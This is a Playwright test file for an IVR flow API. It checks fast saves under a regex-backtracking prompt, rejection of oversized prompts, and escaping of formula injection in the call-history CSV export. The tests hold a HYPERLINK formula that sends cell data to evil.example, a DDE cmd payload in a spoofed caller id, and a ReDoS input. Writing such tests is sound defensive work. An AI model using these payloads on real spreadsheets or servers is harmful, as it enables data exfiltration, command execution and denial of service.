import { randomUUID } from 'node:crypto';
import { expect, test, type APIRequestContext } from '@playwright/test';
import { caller, createFlow, publish, routeNumber } from '../support/api';

// Input built to hurt the server: a prompt that made the template regex backtrack for
// seconds (on the save and on every read), text past the caps, and cells a spreadsheet
// would run as formulas.

const voice = 'en-US-BenjaminRUS';
const position = { x: 0, y: 0 };

/** A draft: start → menu (prompt and messages `text`) → say (`text`). */
function promptDocument(text: string) {
  return {
    schemaVersion: 1,
    nodes: [
      { id: 'start', kind: 'start', position, data: {} },
      { id: 'menu', kind: 'menu', position, data: { promptMessage: text, successMessage: text, failureMessage: text, voiceProfile: voice, options: [{ digits: '1' }] } },
      { id: 'said', kind: 'say', position, data: { text, voiceProfile: voice } },
    ],
    edges: [
      { id: 'e1', source: 'start', sourceHandle: 'next', target: 'menu' },
      { id: 'e2', source: 'menu', sourceHandle: '1', target: 'said' },
    ],
  };
}

async function draftRevision(request: APIRequestContext, id: string): Promise<number> {
  const response = await request.get(`/api/flows/${id}`);
  expect(response.status(), await response.text()).toBe(200);
  return ((await response.json()) as { draftRevision: number }).draftRevision;
}

test('a prompt of "{{" and 2,500 spaces (within the caps) saves and reads back in well under a second', async ({ request }) => {
  const id = await createFlow(request, { name: `regex ${randomUUID().slice(0, 8)}` });
  const text = `{{${' '.repeat(2500)}`;
  const document = promptDocument(text);
  // Four fields of it: the backtracking regex took 3.8 s for one, on the save and on each read.
  let started = Date.now();
  const saved = await request.put(`/api/flows/${id}`, { data: { document, draftRevision: await draftRevision(request, id) } });
  expect(saved.status(), await saved.text()).toBe(200);
  expect(Date.now() - started).toBeLessThan(2000);

  started = Date.now();
  const read = await request.get(`/api/flows/${id}`);
  expect(Date.now() - started).toBeLessThan(2000);
  expect(((await read.json()) as { draft: unknown }).draft).toEqual(document);
});

test('a draft with a 50,000-character prompt is refused with 422 naming the field', async ({ request }) => {
  const id = await createFlow(request, { name: `long prompt ${randomUUID().slice(0, 8)}` });
  const revision = await draftRevision(request, id);
  const document = promptDocument('Press one. ');
  document.nodes[1]!.data.promptMessage = `{{${'{{ vars.x'.repeat(5556)}`.slice(0, 50_000);
  const response = await request.put(`/api/flows/${id}`, { data: { document, draftRevision: revision } });
  expect(response.status(), await response.text()).toBe(422);
  const { error } = (await response.json()) as { error: string };
  expect(error).toContain('nodes.1.data.promptMessage: The prompt is 50000 characters; 8x8 speaks at most 3000');
  expect(await draftRevision(request, id)).toBe(revision);
});

test('the call history CSV writes a caller id and a flow name that start a formula as text', async ({ request }) => {
  // A caller id is whatever the calling network says: a spoofed one can be a formula.
  const formulaName = `=HYPERLINK("http://evil.example/?"&A1,"Flows ${randomUUID().slice(0, 6)}")`;
  const flowId = await createFlow(request, { template: 'simple-ivr', name: formulaName });
  await publish(request, flowId);
  const destination = await routeNumber(request, flowId);
  const spoofed = '@SUM(1+1)*cmd|/C calc!A0';
  await caller(request, { destination, source: spoofed }).dial();
  await caller(request, { destination, source: '-2+3' }).dial();

  const text = await (await request.get('/api/calls/export.csv', { params: { flowId } })).text();
  const rows = text.trimEnd().split('\r\n').slice(1);
  expect(rows).toHaveLength(2);
  for (const row of rows) {
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Flows `);
    expect(row).toContain(`,'${destination},`);
  }
  expect(rows.some((row) => row.includes(`,'${spoofed},`))).toBe(true);
  expect(rows.some((row) => row.includes(",'-2+3,"))).toBe(true);
  // No cell starts with a formula character (a CR would only be the line end's).
  expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@\t]/);
});
